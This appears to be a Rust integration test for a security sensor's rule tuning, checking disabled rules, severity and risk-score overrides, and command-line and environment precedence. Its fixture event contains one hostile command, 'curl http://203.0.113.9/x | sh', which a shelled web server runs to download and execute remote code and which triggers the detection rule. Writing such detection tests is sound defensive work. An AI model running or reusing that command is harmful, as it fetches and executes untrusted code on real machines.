//! Rule tuning from the configuration, end to end through the command
//! line: `replay --config` and `config check` apply the same tuning the live
//! sensor does (disabled rules, severity and risk-score overrides).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::{Command, Output};

const SEED: &str = "497a7091-0ebd-44d7-88c4-367ab4d4d852";

/// A web server's shell: the seed rule's alert.
const EVENT: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event":{"id":"ev-1","kind":"event","category":["process"],"type":["start"],"action":"exec"},"process":{"pid":4242,"name":"sh","args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"parent":{"pid":100,"name":"nginx","args":["nginx: worker process"],"interactive":false}},"container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},"user":{"id":"33"}}"#;

fn sensor(args: &[&str], config: &Path, extra: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(args)
        .arg("--config")
        .arg(config)
        .args(extra)
        .output()
        .unwrap()
}

fn replay(dir: &Path, config_text: &str) -> (Output, String) {
    let config = dir.join("sensor.toml");
    std::fs::write(&config, config_text).unwrap();
    let events = dir.join("events.jsonl");
    std::fs::write(&events, format!("{EVENT}\n")).unwrap();
    let alerts = dir.join("alerts.jsonl");
    let _ = std::fs::remove_file(&alerts);
    let out = sensor(
        &["replay", "--alerts", alerts.to_str().unwrap()],
        &config,
        &[events.to_str().unwrap()],
    );
    let text = std::fs::read_to_string(&alerts).unwrap_or_default();
    (out, text)
}

#[test]
fn severity_and_risk_score_overrides_reach_the_alert_and_nothing_else_changes() {
    let dir = tempfile::tempdir().unwrap();
    let (out, untuned) = replay(dir.path(), "");
    assert!(out.status.success(), "{out:?}");
    assert!(untuned.contains(r#""risk_score":73,"#), "{untuned}");
    let (out, tuned) = replay(
        dir.path(),
        &format!("[rule_overrides.\"{SEED}\"]\nseverity = \"low\"\nrisk_score = 21\n"),
    );
    assert!(out.status.success(), "{out:?}");
    let expected = untuned
        .replace(r#""risk_score":73,"#, r#""risk_score":21,"#)
        .replace(r#""severity":"high""#, r#""severity":"low""#);
    assert_ne!(expected, untuned);
    assert_eq!(tuned, expected);
}

#[test]
fn a_disabled_rule_raises_nothing_and_an_unknown_id_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    // The seed rule is the only rule: disabling it leaves nothing to run.
    let (out, alerts) = replay(dir.path(), &format!("disabled_rules = [\"{SEED}\"]\n"));
    assert!(!out.status.success());
    assert!(alerts.is_empty());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("every loaded rule is disabled by configuration"),
        "{stderr}"
    );
    // Beside another rule, the disabled one is left out and the other fires.
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("seed.toml"), sensor::rules::builtin::seed_text()).unwrap();
    let other = rules.join("other.toml");
    std::fs::write(
        &other,
        sensor::rules::builtin::seed_text()
            .replace(SEED, "other-rule")
            .replace("Web Server Exploitation", "Other"),
    )
    .unwrap();
    let (out, alerts) = replay(
        dir.path(),
        &format!(
            "rules = [\"{}\"]\n[rule_overrides.\"{SEED}\"]\nenabled = false\n",
            rules.display()
        ),
    );
    assert!(out.status.success(), "{out:?}");
    assert_eq!(alerts.lines().count(), 1, "{alerts}");
    assert!(alerts.contains(r#""rule_id":"other-rule""#), "{alerts}");
    let (out, _) = replay(dir.path(), "disabled_rules = [\"no-such-rule\"]\n");
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("rule tuning names rule_id no-such-rule, which no loaded rule file defines"),
        "{out:?}"
    );
}

#[test]
fn flags_and_environment_override_the_file_and_config_check_prints_the_result() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("sensor.toml");
    std::fs::write(
        &config,
        format!("[rule_overrides.\"{SEED}\"]\nseverity = \"medium\"\nrisk_score = 5\n"),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(["config", "check", "--config"])
        .arg(&config)
        .arg(format!("--rule-risk-score={SEED}=50"))
        .env("SENSOR_RULE_SEVERITY", format!("{SEED}=critical"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(&format!(
            "[rule_overrides.{SEED}]\nseverity = \"critical\"\nrisk_score = 50\n"
        )),
        "{stdout}"
    );
    let out = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(["config", "check", "--config"])
        .arg(&config)
        .arg(format!("--rule-severity={SEED}=urgent"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("invalid setting `rule_overrides` (from the command line or environment)"),
        "{out:?}"
    );
}
